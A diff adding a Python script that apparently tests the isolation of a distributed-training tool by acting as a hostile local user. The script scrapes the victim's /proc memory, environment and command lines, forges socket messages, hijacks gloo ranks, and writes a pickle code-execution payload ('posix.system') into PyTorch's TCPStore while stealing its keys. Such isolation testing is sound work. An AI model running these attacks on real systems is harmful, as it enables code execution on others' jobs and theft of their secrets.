@@ -1,0 +1,232 @@
+"""What another user tries while a user's ranks train: ``intruder.py UID PLACES PORT STOP WORD ATTACKS``, with any Python.
+
+Until there is a file STOP: opens what UID's processes have open, and every new file of theirs in PLACES (with colons between); speaks to their sockets with abstract
+names; looks for WORD in their command lines; joins at PORT where it is not 0. With ATTACKS it also connects to each TCP port at which they listen, says what the tool's peers
+and torch's store say first, writes and deletes what a store holds there, and takes a rank's place with gloo. Prints what it got, as JSON.
+"""
+
+from __future__ import annotations
+
+import collections
+import contextlib
+import json
+import os
+import socket
+import stat
+import struct
+import sys
+import threading
+import time
+from typing import Any, Callable, Dict, Iterator, List, Set, Tuple
+
+MAGIC = (0x3C85F7CE).to_bytes(4, "little")
+SET, DELETE, COUNT, LIST = 1, 8, 7, 18
+"""Of torch/csrc/distributed/c10d/TCPStoreBackend.hpp, QueryType."""
+PICKLE = b"cposix\nsystem\n(S'touch /tmp/taken'\ntR."
+GREETING = b"torchtune-sys/peers/2 " + b"0" * 32 + b"\n"
+got: Dict[str, str] = {}
+tried: "collections.Counter[str]" = collections.Counter()
+
+
+def attempt(what: str, do: Callable[[], Any]) -> None:
+    tried[what.partition(" ")[0]] += 1
+    try:
+        found = do()
+    except Exception:
+        return
+    got[what] = repr(found)[:80]
+
+
+def read(path: str) -> bytes:
+    with open(path, "rb") as file:
+        return file.read(64)
+
+
+def memory(path: str) -> bytes:
+    found = read(path)
+    if not found:
+        raise OSError("it has ended")
+    return found
+
+
+def change(path: str) -> None:
+    os.close(os.open(path, os.O_WRONLY))
+
+
+def make(folder: str) -> None:
+    open(os.path.join(folder, "x"), "w").close()
+
+
+def below(folder: str) -> None:
+    attempt("list " + folder, lambda: os.listdir(folder))
+    for place, _, names in os.walk(folder):
+        for path in (os.path.join(place, name) for name in names):
+            attempt("read " + path, lambda path=path: read(path))  # type: ignore[misc]
+            attempt("write " + path, lambda path=path: change(path))  # type: ignore[misc]
+
+
+def speak(name: str) -> bytes:
+    with socket.socket(socket.AF_UNIX) as caller:
+        caller.settimeout(2)
+        caller.connect(name)
+        caller.sendall(b'{"event": "end", "rank": 0, "stage": "train", "verdict": "pass", "seconds": 0}\n')
+        caller.sendall(b'{"is": "rank", "rank": 0, "local": 0}\n{"is": "note", "key": "node", "value": []}\n')
+        answer = caller.recv(1)
+        if not answer:
+            raise OSError("closed")
+        return answer
+
+
+def processes(victim: int) -> Iterator[str]:
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            if os.stat("/proc/" + pid).st_uid == victim:
+                yield pid
+        except OSError:
+            continue
+
+
+def look(pid: str, word: str) -> None:
+    for name in ("environ", "mem", "maps"):
+        attempt("process %s of %s" % (name, pid), lambda: memory("/proc/%s/%s" % (pid, name)))  # noqa: B023
+    attempt("process fd of " + pid, lambda: os.listdir("/proc/%s/fd" % pid))
+    for number in range(12):
+        attempt("process fd %d of %s" % (number, pid), lambda: read("/proc/%s/fd/%d" % (pid, number)))  # noqa: B023
+    tried["cmdline"] += 1
+    try:
+        with open("/proc/%s/cmdline" % pid) as words:
+            if word and word in words.read():
+                got["secret in the command line of " + pid] = "seen"
+    except OSError:
+        pass
+
+
+def ports(victim: int) -> Iterator[Tuple[str, int]]:
+    """At which the user listens, as ss says it, with an address that leads there."""
+    for table in ("tcp", "tcp6"):
+        with open("/proc/net/" + table) as rows:
+            for row in (line.split() for line in rows):
+                if row[3] == "0A" and int(row[7]) == victim:
+                    address, port = row[1].split(":")
+                    here = socket.inet_ntoa(struct.pack("<I", int(address, 16))) if table == "tcp" else "::1"
+                    yield ("127.0.0.1" if here == "0.0.0.0" else here), int(port, 16)
+
+
+def said(address: str, port: int, words: bytes, patience_s: float = 1.0) -> bytes:
+    with socket.create_connection((address, port), 1) as caller:
+        caller.settimeout(patience_s)
+        caller.sendall(words)
+        return caller.recv(1 << 16)
+
+
+def text(value: bytes) -> bytes:
+    return struct.pack("<Q", len(value)) + value
+
+
+def store(address: str, port: int) -> None:
+    """Write to torch's store what a rank would unpickle, and take away what ranks tell each other."""
+    with socket.create_connection((address, port), 1) as caller:
+        caller.settimeout(0.5)
+        caller.sendall(b"\0" + MAGIC + bytes([COUNT]))
+        if len(caller.recv(8)) < 8:
+            return
+        tried["store"] += 1
+        held.append(caller.dup())
+        caller.sendall(bytes([LIST]))
+        answer, keys = caller.recv(1 << 20), []
+        while len(answer) >= 16 and len(keys) < 1000:
+            size = struct.unpack_from("<Q", answer, 8 if not keys else 0)[0]
+            answer = answer[16:] if not keys else answer[8:]
+            keys.append(answer[:size])
+            answer = answer[size:]
+        for key in (key for key in keys if key):
+            stolen.add(key.decode("ascii", "replace"))
+            caller.sendall(bytes([SET]) + text(key) + text(PICKLE))
+        caller.sendall(bytes([SET]) + text(b"bob") + text(PICKLE))
+
+
+def gloo(address: str, port: int) -> None:
+    """Be one that connects to a rank: gloo takes who says the number that comes next."""
+    for number in range(4):
+        caller = socket.create_connection((address, port), 1)
+        caller.sendall(struct.pack("<Q", number))
+        held.append(caller)
+    del held[:-200]
+
+
+held: List[socket.socket] = []
+stolen: Set[str] = set()
+met: Set[object] = set()
+
+
+def attack(victim: int) -> None:
+    for address, port in set(ports(victim)):
+        tried["port"] += 1
+        try:
+            if port not in met:
+                met.add(port)
+                answer = said(address, port, GREETING)
+                if answer.startswith(b"torchtune-sys"):
+                    attempt("peer %d" % port, lambda: closed(address, port))  # noqa: B023
+            store(address, port)
+            gloo(address, port)
+        except OSError:
+            continue
+
+
+def attacking(victim: int, stop: str) -> None:
+    """Listeners live for moments: they are looked for without a pause."""
+    while not os.path.exists(stop):
+        with contextlib.suppress(OSError, RuntimeError):
+            attack(victim)
+        time.sleep(0.005)
+
+
+def closed(address: str, port: int) -> None:
+    """Say more than a greeting; raises OSError where nothing is answered."""
+    words = GREETING + b"0" * 32 + b' {"is": "who"}\n' + b"0" * 32 + b' {"is": "join", "node": 1}\n'
+    answer = said(address, port, words).partition(b"\n")[2]
+    if not answer:
+        raise OSError("closed")
+    got["peer %d" % port] = repr(answer[:60])
+
+
+def main() -> None:
+    victim, places, port, stop, word, attacks = sys.argv[1:]
+    folders = places.split(":")
+    known = {place: set(os.listdir(place)) for place in folders}
+    print("ready", flush=True)
+    if attacks:
+        threading.Thread(target=attacking, args=(int(victim), stop), daemon=True).start()
+    while not os.path.exists(stop):
+        for pid in processes(int(victim)):
+            look(pid, word)
+        for place in folders:
+            for path in (os.path.join(place, name) for name in set(os.listdir(place)) - known[place]):
+                try:
+                    found = os.lstat(path)
+                except OSError:
+                    continue
+                if found.st_uid == int(victim) and stat.S_ISDIR(found.st_mode):
+                    below(path)
+                    attempt("make " + path, lambda path=path: make(path))  # type: ignore[misc]
+                elif found.st_uid == int(victim) and stat.S_ISREG(found.st_mode):
+                    attempt("read " + path, lambda path=path: read(path))  # type: ignore[misc]
+                    attempt("write " + path, lambda path=path: change(path))  # type: ignore[misc]
+        for row in open("/proc/net/unix"):
+            name = row.split()[-1]
+            if name.startswith("@torchtune-sys-") and name not in met:
+                met.add(name)
+                attempt("speak " + name, lambda name=name: speak("\0" + name[1:]))  # type: ignore[misc]
+        if int(port):
+            try:
+                held.append(socket.create_connection(("127.0.0.1", int(port)), 1))
+                got["port " + port] = "joined"
+                time.sleep(20)
+            except OSError:
+                pass
+    json.dump({"got": got, "tried": dict(tried), "stolen": sorted(stolen)[:50]}, sys.stdout)
+
+
+if __name__ == "__main__":
+    main()
